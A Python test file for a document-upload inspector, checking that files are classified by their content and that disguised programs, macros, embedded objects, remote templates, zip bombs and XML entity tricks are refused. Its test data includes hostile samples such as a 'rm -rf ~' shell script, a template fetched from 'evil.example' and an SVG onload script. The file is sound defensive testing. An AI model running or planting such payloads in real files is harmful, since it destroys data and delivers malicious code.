"""What a file is, decided by what a reader can open; the names are only names."""

from __future__ import annotations

from functools import partial

import pytest

from documents.opening.findings import DAMAGED, EMBEDDED, HAS_ATTACHMENTS, JAVASCRIPT, LAUNCH, Unacceptable
from documents.opening.inspection import inspect
from tests.documents import samples

PDF = samples.pdf()
JPEG, PNG = samples.picture("JPEG"), samples.picture("PNG")


@pytest.fixture(autouse=True, scope="module")
def _heic_decoder() -> None:
    """As the child process loads it."""
    import pi_heif

    pi_heif.register_heif_opener(thumbnails=False)


def problem(content: bytes, name: str) -> str:
    with pytest.raises(Unacceptable) as refused:
        inspect(content, name)
    return refused.value.problem


@pytest.mark.parametrize(
    "name, content, kind",
    [
        ("nuls.pdf", PDF + b"\0" * 2_043, "pdf"),
        ("many-nuls.pdf", PDF + b"\0" * 100_000, "pdf"),
        ("words-behind.pdf", PDF + b"\r\n<!-- sent by a gateway -->" * 200, "pdf"),
        ("header-before.pdf", b"\r\n\r\nX-Printer: 1\r\n" + PDF, "pdf"),
        ("mark-before.pdf", b"\xef\xbb\xbf" + PDF, "pdf"),
        ("owner-only.pdf", samples.encrypted_pdf(""), "pdf"),
        ("packed.pdf", samples.pdf_with_packed_objects(), "pdf"),
        ("no-end.pdf", PDF.replace(b"%%EOF", b""), "pdf"),
        ("photo.jfif", JPEG, "jpeg"),
        ("photo.png", JPEG, "jpeg"),
        ("photo.jpg", PNG, "png"),
        ("iphone.heic", samples.HEIC, "heic"),
        ("iphone.jpg", samples.HEIC, "heic"),
        ("fax.tif", samples.many_page_tiff(3), "tiff"),
        ("web.jpg", samples.picture("WEBP"), "webp"),
        ("cmyk.jpg", samples.picture("JPEG", mode="CMYK"), "jpeg"),
        ("book.xlsx", samples.office(), "xlsx"),
        ("elsewhere.xlsx", samples.office(main="main/book1.xml"), "xlsx"),
        ("letter.docx", samples.office(samples.TEXT, "word/document2.xml"), "docx"),
        ("letter.xlsx", samples.office(samples.TEXT), "docx"),
        ("old.xls", samples.compound("Workbook"), "xls"),
        ("older.xls", samples.compound("Book"), "xls"),
        ("old.doc", samples.compound("WordDocument", "1Table"), "doc"),
        ("e-invoice.xml", samples.CROSS_INDUSTRY, "xml"),
        ("marked.xml", b"\xef\xbb\xbf" + samples.CROSS_INDUSTRY, "xml"),
        ("wide.xml", '<?xml version="1.0" encoding="utf-16"?><Invoice/>'.encode("utf-16"), "xml"),
        ("e-invoice.pdf", samples.CROSS_INDUSTRY, "xml"),
        ("mail.eml", samples.mail(), "eml"),
        ("list.csv", b"sep=;\r\nname;total\r\nM\xfcller;7", "csv"),
        ("notes.txt", b"< 5 pieces were missing", "txt"),
    ],
)
def test_takes_what_a_reader_can_open(name: str, content: bytes, kind: str) -> None:
    assert inspect(content, name).kind == kind


@pytest.mark.parametrize(
    "name, content, reason",
    [
        ("locked.pdf", samples.encrypted_pdf("secret"), "is protected with a password"),
        ("cut.pdf", b"%PDF-1.7 cut off", "is a PDF without pages, or a damaged one"),
        ("empty.pdf", samples.PDF_WITHOUT_PAGES, "is a PDF without pages, or a damaged one"),
        ("words.pdf", b"Invoice 7", "is named like a PDF, but no reader can open it as one"),
        ("mail.pdf", b"\0" * 5_000, "is named like a PDF, but no reader can open it as one"),
        ("junk.png", b"\x89PNG\r\n\x1a\n" + b"0" * 900, "is a damaged picture"),
        ("absurd.png", samples.absurd_png(), "measures 60,000 × 60,000 pixels"),
        ("absurd.jpg", samples.absurd_png(9_000, 90_000), "measures 9,000 × 90,000 pixels"),
        ("old.gif", samples.picture("GIF"), "is a GIF picture. Save it as PNG"),
        ("scan.bmp", samples.picture("BMP"), "is a BMP picture. Save it as PNG"),
        ("all.zip", samples.package({"a.pdf": PDF}), "is a zip archive"),
        ("damaged.docx", samples.office()[:200], "is a damaged or protected package"),
        ("text.odt", samples.package({"mimetype": b"application/vnd.oasis.opendocument.text"}), "OpenDocument"),
        (
            "slides.pptx",
            samples.office(f"{samples.OFFICE}.presentationml.presentation.main+xml"),
            "of a kind that is not",
        ),
        ("locked.xlsx", samples.compound("EncryptedPackage", "EncryptionInfo"), "is protected with a password"),
        ("mail.msg", samples.compound("__properties_version1.0"), "is an Outlook message"),
        ("damaged.xls", samples.compound("Workbook")[:600], "is a damaged Office file"),
        ("broken.xml", b"<Invoice><ID>1</Invoice>", "is no well-formed XML"),
        ("deep.xml", b"<a>" * 300 + b"</a>" * 300, "nested deeper"),
        ("growing.xml", samples.growing_xml(), "unpacks to more"),
        ("entities.xml", b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "declares entities"),
        ("page.html", b"<!DOCTYPE html><p>Invoice", "is a web page"),
        ("page.txt", b"\xef\xbb\xbf <HTML><script>x</script>", "is a web page"),
        ("page.xls", b"<html><table>", "is a web page"),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "is an SVG drawing"),
        ("drawing.xml", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "is an SVG drawing"),
        ("nothing.eml", b"no headers at all", "has no sender, date and subject"),
        ("list.csv", b"a;b\0\x01", "is not plain text"),
        ("data.bin", b"\x01\x02", "is of a type that is not accepted. Attach PDF"),
        ("data", b"a;b", "is of a type that is not accepted"),
    ],
)
def test_refuses_with_the_true_reason_and_the_way_out(name: str, content: bytes, reason: str) -> None:
    told = problem(content, name)
    assert reason in told
    assert told.endswith(".")


@pytest.mark.parametrize(
    "name, content",
    [
        ("invoice.pdf", samples.WINDOWS_PROGRAM),
        ("invoice.pdf", b"\x7fELF\x02\x01\x01"),
        ("invoice.jpg", b"\xcf\xfa\xed\xfe\x07"),
        ("invoice.txt", b"#!/bin/sh\nrm -rf ~"),
        ("invoice.pdf", b"\x4c\x00\x00\x00\x01\x14\x02\x00"),
        ("invoice.js", b"WScript.Echo(1)"),
        ("invoice.pdf.exe", PDF),
        ("invoice.jar", samples.package({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
        ("invoice.docx", samples.package({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"x"})),
        ("invoice.apk", samples.package({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"})),
        ("invoice.xlsx", samples.office(xl__media__image1_dot_png=samples.WINDOWS_PROGRAM)),
        ("invoice.docx", samples.office(samples.TEXT, word__embeddings__run_dot_exe=b"x")),
        ("invoice.eml", samples.mail(("invoice.pdf", PDF), ("invoice.pdf.exe", b"MZ"))),
        ("invoice.eml", samples.mail(("invoice.pdf", samples.WINDOWS_PROGRAM))),
        ("invoice.eml", samples.mail(("all.zip", samples.package({"run.exe": b"x"})))),
        ("invoice.eml", samples.mail(("inner.eml", samples.mail(("run.vbs", b"x"))))),
        ("invoice.eml", samples.encoded_mail("base64", samples.mail(("run.vbs", b"x")))),
        ("invoice.eml", samples.encoded_mail("BASE64 (all of it)", samples.mail(("run.vbs", b"x")))),
        ("invoice.eml", samples.mail(("a.pdf", samples.WINDOWS_PROGRAM)).replace(b": base64", b": Base64 (usual)")),
        ("invoice.eml", samples.mail().replace(b"Please", b"begin 644 run.exe\n#34J0\n`\nend\nPlease")),
    ],
)
def test_refuses_programs_wherever_they_hide(name: str, content: bytes) -> None:
    assert "program" in problem(content, name)


@pytest.mark.parametrize(
    "name, content",
    [
        ("vba.xlsx", samples.office(xl__vbaProject_dot_bin=b"x")),
        ("renamed.docx", samples.office("application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("sheet.xlsx", samples.office(xl__macrosheets__sheet1_dot_xml=b"<xm/>")),
        ("control.docx", samples.office(samples.TEXT, word__activeX__activeX1_dot_bin=b"x")),
        ("vba.xls", samples.compound("Workbook", "_VBA_PROJECT_CUR/VBA/dir")),
        ("vba.doc", samples.compound("WordDocument", "Macros/VBA/dir")),
        ("sheet.xls", samples.workbook_with_macro_sheet()),
        (
            "inner.docx",
            samples.office(samples.TEXT, word__embeddings__a_dot_xlsx=samples.office(xl__vbaProject_dot_bin=b"x")),
        ),
        ("mail.eml", samples.mail(("vba.xls", samples.compound("Workbook", "_VBA_PROJECT_CUR/VBA/dir")))),
    ],
)
def test_refuses_macros(name: str, content: bytes) -> None:
    assert "holds macros. Save it without macros" in problem(content, name)


@pytest.mark.parametrize(
    "name, content",
    [
        ("package.doc", samples.compound("WordDocument", "ObjectPool/_1/\x01Ole10Native")),
        ("package.docx", samples.office(samples.TEXT, word__embeddings__o_dot_bin=samples.compound("\x01Ole10Native"))),
    ],
)
def test_refuses_files_packed_into_office_files(name: str, content: bytes) -> None:
    assert "holds another file inside" in problem(content, name)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame"])
def test_refuses_what_gets_programs_from_the_network(kind: str) -> None:
    """Macros of a template run when the document is opened, wherever it lies."""
    office = partial(samples.office, samples.TEXT, "word/document.xml")
    fetched = office(word__rels__settings_dot_xml_dot_rels=samples.relation(kind, "HTTPS://evil.example/a.dotm"))
    assert "gets a template or an object from the network" in problem(fetched, "a.docx")
    assert "gets a template or an object from the network" in problem(samples.mail(("a.docx", fetched)), "a.eml")
    for plain in (samples.relation("hyperlink", "https://example.com/"), samples.relation(kind, "file:///C:/Own.dotm")):
        assert inspect(office(word__rels__settings_dot_xml_dot_rels=plain), "a.docx").kind == "docx"


def test_keeps_a_workbook_inside_a_document() -> None:
    chart = samples.office(samples.TEXT, word__embeddings__chart_dot_xlsx=samples.office())
    assert inspect(chart, "chart.docx").kind == "docx"


def test_refuses_a_bomb_also_inside_an_e_mail() -> None:
    bomb = samples.package({"a.bin": b"0" * 20_000_000})
    assert "zip bomb" in problem(bomb, "a.docx")
    assert "zip bomb" in problem(samples.mail(("a.zip", bomb)), "a.eml")


@pytest.mark.parametrize(
    "content, marks",
    [
        (PDF, ()),
        (samples.pdf_with_action("JavaScript"), (JAVASCRIPT,)),
        (samples.pdf_with_action("Launch"), (LAUNCH,)),
        (samples.pdf_with_file(), (EMBEDDED,)),
        (samples.pdf_with_packed_objects(), (JAVASCRIPT,)),
        (samples.pdf_with_form(b"<template><field><caption/></field></template>"), ()),
        (samples.pdf_with_form(b'<event><script contentType="application/x-javascript">a()</script>'), (JAVASCRIPT,)),
        (samples.pdf_with_form("<t:calculate><t:script>Sum(a)</t:script>".encode("utf-16")), (JAVASCRIPT,)),
        (samples.encrypted_pdf("", samples.pdf_with_action("Launch")), (LAUNCH,)),
    ],
)
def test_marks_what_a_pdf_would_do(content: bytes, marks: tuple[str, ...]) -> None:
    assert inspect(content, "a.pdf").marks == marks


@pytest.mark.parametrize("name", ["JPEG", "PNG"])
def test_takes_and_marks_a_picture_that_is_cut_off_but_shown_by_readers(name: str) -> None:
    whole = samples.noise(name)
    assert inspect(whole, "a").marks == ()
    assert inspect(whole[: len(whole) // 2], "a").marks == (DAMAGED,)


def test_names_the_files_inside() -> None:
    assert inspect(samples.pdf_with_file("factur-x.xml"), "a.pdf").contents == ("factur-x.xml",)
    held = inspect(samples.mail(("Rechnung für März.pdf", PDF), ("logo.png", PNG)), "a.eml")
    assert (held.marks, held.contents) == ((HAS_ATTACHMENTS,), ("Rechnung für März.pdf", "logo.png"))


def test_counts_pages() -> None:
    assert inspect(samples.pdf(7), "a.pdf").pages == 7
    assert inspect(samples.many_page_tiff(3), "a.tif").pages == 3
    assert inspect(b"a;b", "a.csv").pages == 0
